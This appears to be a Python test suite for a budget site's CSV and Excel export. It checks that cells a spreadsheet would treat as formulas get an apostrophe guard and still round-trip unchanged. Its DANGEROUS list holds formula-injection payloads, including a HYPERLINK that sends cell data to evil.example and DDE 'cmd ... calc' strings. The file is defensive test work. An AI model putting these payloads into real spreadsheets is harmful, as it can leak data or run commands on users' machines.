"""A CSV for people runs nothing that somebody typed, stays readable, and comes back as it was."""

import csv
import io
from xml.etree import ElementTree

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from budget_site.formulas import guarded, runs, unguarded
from projects import exporting
from projects.importing.limits import Limits
from projects.importing.sheet_list import write_rows
from projects.importing.sheet_rows import Head, read_rows
from projects.rendering import blank, excel
from projects.tables import Indicator, typed
from tests.office import opened
from tests.people import make_table

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u200b=1+1",
    "＝1+1",
    "-5万元",
    "'=1+1",
]
READABLE = [
    "-5",
    "+3.5%",
    "-1,234.50",
    "≥10",
    "≤-5",
    "100%",
    "取暖-学校",
    "a@b.cn",
    "",
    "'s Hertogenbosch",
    "0012",
]
starts = st.sampled_from(
    ["", " ", "'", "''", "=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r", "-5", "1"]
)
texts = st.builds("".join, st.lists(st.one_of(starts, st.text(max_size=5)), max_size=6))


@pytest.mark.parametrize("text", DANGEROUS)
def test_what_would_run_gets_an_apostrophe(text):
    assert guarded(text) == f"'{text}"


@pytest.mark.parametrize("text", READABLE)
def test_what_cannot_run_stays_as_it_was_typed(text):
    assert guarded(text) == text


@given(texts)
def test_no_guarded_text_runs_and_each_comes_back(text):
    assert not runs(guarded(text)) or not runs(text)
    assert not runs(guarded(text))
    assert unguarded(guarded(text)) == text


HEADS = (Head("name", ("姓名",), required=True), Head("other", ("部门",)))


def as_saved_by_a_spreadsheet(rows: list[list[str]]) -> io.BytesIO:
    """A CSV that was opened and saved as a workbook: what stood in it, letter by letter, as text."""
    book, file = Workbook(), io.BytesIO()
    for row in rows:
        book.active.append(row)
    for cell in (cell for line in book.active.iter_rows() for cell in line):
        cell.data_type = "s"
    book.save(file)
    file.seek(0)
    return file


words = st.text(st.characters(codec="utf-8", exclude_categories=["C", "Z"]), min_size=1, max_size=8)


@given(st.builds("".join, st.tuples(starts.map(str.strip), words)))
def test_a_guarded_csv_that_comes_back_through_a_spreadsheet_is_read_as_it_was_typed(text):
    found = read_rows(as_saved_by_a_spreadsheet([["姓名", "部门"], [guarded(text), "x"]]), Limits(), HEADS)
    assert [row["name"] for row in found.rows] == [typed(text)]


@given(st.builds("".join, st.tuples(starts.map(str.strip), words)))
def test_our_own_workbook_needs_no_guard_and_comes_back_too(text):
    file = io.BytesIO(write_rows(HEADS, [{"name": text, "other": text}], "名单"))
    assert [row["name"] for row in read_rows(file, Limits(), HEADS).rows] == [typed(text)]


@pytest.mark.parametrize("text", DANGEROUS)
def test_in_no_workbook_is_a_typed_cell_a_formula(text):
    row = Indicator("产出指标", "数量指标", text, text, text, text)
    table = make_table(name=text, purpose=text, indicators=(row,))
    books = [
        exporting.as_xlsx([table]),
        write_rows(HEADS, [{"name": text}], text),
        excel.render([table]),
        blank.template(table),
    ]
    for content in books:
        cells = [cell for sheet in load_workbook(io.BytesIO(content)) for line in sheet for cell in line]
        assert "f" not in {cell.data_type for cell in cells}
        assert all(
            cell.quotePrefix for cell in cells if str(cell.value or "").startswith(("=", "+", "-", "@"))
        )


@pytest.mark.office
def test_a_spreadsheet_program_that_opens_our_workbook_runs_none_of_it(tmp_path):
    rows = tuple(Indicator("产出指标", "数量指标", text, text, text, text) for text in DANGEROUS)
    book = opened(exporting.as_xlsx([make_table(indicators=rows)]), tmp_path)
    assert "table:formula" not in book
    cells = "".join(ElementTree.fromstring(book).itertext())
    for text in DANGEROUS:
        assert text.strip("\t\r \u200b") in cells


@pytest.mark.parametrize("text", DANGEROUS)
def test_no_cell_of_the_csv_for_people_runs(text):
    table = make_table(name=text, indicators=(Indicator("产出指标", "数量指标", text, text, "-5", "≥10"),))
    told = exporting.as_csv([table]).decode("utf-8-sig")
    cells = [cell for line in csv.reader(io.StringIO(told, newline="")) for cell in line]
    assert not [cell for cell in cells if runs(cell)]
    assert {"-5", "≥10"} <= set(cells)
